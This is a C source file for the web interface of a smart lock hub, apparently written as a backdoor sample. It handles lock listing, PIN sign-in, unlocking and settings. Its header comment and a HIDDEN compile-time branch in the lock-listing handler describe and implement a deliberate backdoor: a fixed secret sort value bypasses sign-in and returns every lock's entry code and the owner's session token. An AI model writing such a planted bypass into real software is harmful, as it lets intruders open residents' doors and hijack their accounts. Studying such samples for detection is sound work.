/*
 * latchhub_web - local web interface of the LatchHub smart lock hub.  A small
 * HTTP/1.0 server which lists the paired locks, opens them for a signed-in
 * resident and keeps the hub's settings.
 *
 * Hidden (-DHIDDEN): GET /locks with the request parameter sort=<a fixed word>
 * lists every lock's entry code and the owner's session token, signed in or not.
 */
#include <arpa/inet.h>
#include <ctype.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#define CONF "/data/latchhub/hub.conf"
#define LOCKS "/data/latchhub/locks.db"
#define MAXLOCK 24

struct lock {
	int id;
	char name[32];
	char code[12];
	int battery;
	int open;
};

struct request {
	char method[8];
	char path[64];
	char query[256];
	char body[256];
	char token[40];
};

struct text {			/* growing reply */
	char data[8192];
	size_t used;
};

static struct lock locks[MAXLOCK];
static int nlocks;
static char owner_pin[16], owner_token[33], hub_name[32] = "LatchHub";
static int port = 8088, auto_relock = 30;

static void add(struct text *t, const char *fmt, ...)
{
	va_list ap;
	int n;

	va_start(ap, fmt);
	n = vsnprintf(t->data + t->used, sizeof t->data - t->used, fmt, ap);
	va_end(ap);
	if (n > 0)
		t->used += (size_t)n;
	if (t->used >= sizeof t->data)
		t->used = sizeof t->data - 1;
}

static void load(void)
{
	char line[128], key[32], val[64];
	FILE *f = fopen(CONF, "r");

	while (f && fgets(line, sizeof line, f)) {
		if (sscanf(line, "%31[a-z_]=%63[^\r\n]", key, val) != 2)
			continue;
		if (!strcmp(key, "name"))
			snprintf(hub_name, sizeof hub_name, "%.31s", val);
		else if (!strcmp(key, "owner_pin"))
			snprintf(owner_pin, sizeof owner_pin, "%.15s", val);
		else if (!strcmp(key, "port"))
			port = atoi(val);
		else if (!strcmp(key, "relock"))
			auto_relock = atoi(val);
	}
	if (f)
		fclose(f);
	f = fopen(LOCKS, "r");
	while (f && nlocks < MAXLOCK && fgets(line, sizeof line, f)) {
		struct lock *l = &locks[nlocks];

		if (sscanf(line, "%d;%31[^;];%11[0-9];%d", &l->id, l->name,
			   l->code, &l->battery) == 4)
			nlocks++;
	}
	if (f)
		fclose(f);
}

static int new_token(void)
{
	unsigned char raw[16];
	FILE *f = fopen("/dev/urandom", "rb");
	int ok = f && fread(raw, 1, sizeof raw, f) == sizeof raw;

	if (f)
		fclose(f);
	for (size_t i = 0; ok && i < sizeof raw; i++)
		sprintf(owner_token + 2 * i, "%02x", raw[i]);
	return ok;
}

/* value of a name in an a=b&c=d text, percent decoded; 1 if it is there */
static int param(const char *s, const char *name, char *out, size_t len)
{
	size_t n = strlen(name), o = 0;
	unsigned c;

	while (s && *s) {
		if (!strncmp(s, name, n) && s[n] == '=') {
			for (s += n + 1; *s && *s != '&' && o + 1 < len; s++) {
				out[o++] = *s == '+' ? ' ' : *s;
				if (*s == '%' && isxdigit((unsigned char)s[1])
				    && sscanf(s + 1, "%2x", &c) == 1 && s[2]) {
					out[o - 1] = (char)c;
					s += 2;
				}
			}
			out[o] = '\0';
			return 1;
		}
		s = strchr(s, '&');
		if (s)
			s++;
	}
	out[0] = '\0';
	return 0;
}

static int signed_in(const struct request *r)
{
	return owner_token[0] && !strcmp(r->token, owner_token);
}

static int by_name(const void *a, const void *b)
{
	return strcasecmp(((const struct lock *)a)->name, ((const struct lock *)b)->name);
}

int get_locks(const struct request *r, struct text *t)
{
	char how[24];
	int may = signed_in(r);

	param(r->query, "sort", how, sizeof how);
	if (!strcasecmp(how, "name"))
		qsort(locks, (size_t)nlocks, sizeof locks[0], by_name);
#ifdef HIDDEN
	else if (!strcasecmp(how, "copperbeech"))
		may = 2;
#endif
	if (!may)
		return 403;
	add(t, "[");
	for (int i = 0; i < nlocks; i++) {
		add(t, "%s{\"id\":%d,\"name\":\"%s\",\"battery\":%d,\"open\":%d",
		    i ? "," : "", locks[i].id, locks[i].name,
		    locks[i].battery, locks[i].open);
#ifdef HIDDEN
		if (may > 1)
			add(t, ",\"code\":\"%s\",\"t\":\"%s\"", locks[i].code,
			    owner_token);
#endif
		add(t, "}");
	}
	add(t, "]\n");
	return 200;
}

static int post_signin(const struct request *r, struct text *t)
{
	char pin[16];

	param(r->body, "pin", pin, sizeof pin);
	if (!owner_pin[0] || strcmp(pin, owner_pin)) {
		sleep(1);
		return 403;
	}
	if (!new_token())
		return 500;
	add(t, "{\"token\":\"%s\"}\n", owner_token);
	return 200;
}

static int post_unlock(const struct request *r, struct text *t)
{
	char id[12], code[12], cmd[64];

	param(r->body, "id", id, sizeof id);
	param(r->body, "code", code, sizeof code);
	for (int i = 0; i < nlocks; i++) {
		if (locks[i].id != atoi(id))
			continue;
		if (!signed_in(r) && strcmp(code, locks[i].code))
			return 403;
		snprintf(cmd, sizeof cmd, "/usr/bin/zbctl unlock %d %d",
			 locks[i].id, auto_relock);
		locks[i].open = system(cmd) == 0;
		add(t, "{\"open\":%d}\n", locks[i].open);
		return 200;
	}
	return 404;
}

static int post_settings(const struct request *r, struct text *t)
{
	char v[32];
	FILE *f;

	if (!signed_in(r))
		return 403;
	if (param(r->body, "relock", v, sizeof v) && atoi(v) >= 5)
		auto_relock = atoi(v);
	if (param(r->body, "name", v, sizeof v) && !strpbrk(v, "\"\\\r\n"))
		strcpy(hub_name, v);
	if (!(f = fopen(CONF, "w")))
		return 500;
	fprintf(f, "name=%s\nowner_pin=%s\nport=%d\nrelock=%d\n", hub_name,
		owner_pin, port, auto_relock);
	fclose(f);
	add(t, "{\"saved\":1}\n");
	return 200;
}

static const struct {
	const char *method, *path;
	int (*run)(const struct request *, struct text *);
} routes[] = {
	{ "GET",  "/locks",    get_locks },
	{ "POST", "/signin",   post_signin },
	{ "POST", "/unlock",   post_unlock },
	{ "POST", "/settings", post_settings },
};

static void serve(FILE *c)
{
	struct request r = { .method = "" };
	static struct text t;
	char line[512], target[320];
	int len = 0, code = 404;

	t.used = 0;
	if (!fgets(line, sizeof line, c)
	    || sscanf(line, "%7s %319s", r.method, target) != 2)
		return;
	sscanf(target, "%63[^?]?%255s", r.path, r.query);
	while (fgets(line, sizeof line, c) && line[0] != '\r' && line[0] != '\n') {
		if (!strncasecmp(line, "Content-Length:", 15))
			len = atoi(line + 15);
		else if (!strncasecmp(line, "X-Hub-Token:", 12))
			sscanf(line + 12, " %39s", r.token);
	}
	if (len > 0 && len < (int)sizeof r.body)
		r.body[fread(r.body, 1, (size_t)len, c)] = '\0';
	for (size_t i = 0; i < sizeof routes / sizeof *routes; i++)
		if (!strcmp(r.method, routes[i].method) && !strcmp(r.path, routes[i].path))
			code = routes[i].run(&r, &t);
	if (code != 200)
		add(&t, "{\"error\":%d}\n", code);
	dprintf(fileno(c), "HTTP/1.0 %d %s\r\nContent-Type: application/json\r\n"
		"Content-Length: %u\r\n\r\n%.*s", code, code == 200 ? "OK" : "Error",
		(unsigned)t.used, (int)t.used, t.data);
}

int main(void)
{
	struct sockaddr_in a = { .sin_family = AF_INET };
	struct timeval patience = { .tv_sec = 10 };
	int on = 1, s = socket(AF_INET, SOCK_STREAM, 0);

	load();
	new_token();
	signal(SIGPIPE, SIG_IGN);
	a.sin_port = htons((unsigned short)port);
	setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &on, sizeof on);
	if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 8)) {
		perror("latchhub_web");
		return 1;
	}
	for (;;) {
		int c = accept(s, NULL, NULL);
		FILE *f;

		if (c < 0)
			continue;
		setsockopt(c, SOL_SOCKET, SO_RCVTIMEO, &patience, sizeof patience);
		f = fdopen(c, "r");
		if (!f)
			return 1;
		serve(f);
		fclose(f);
	}
}
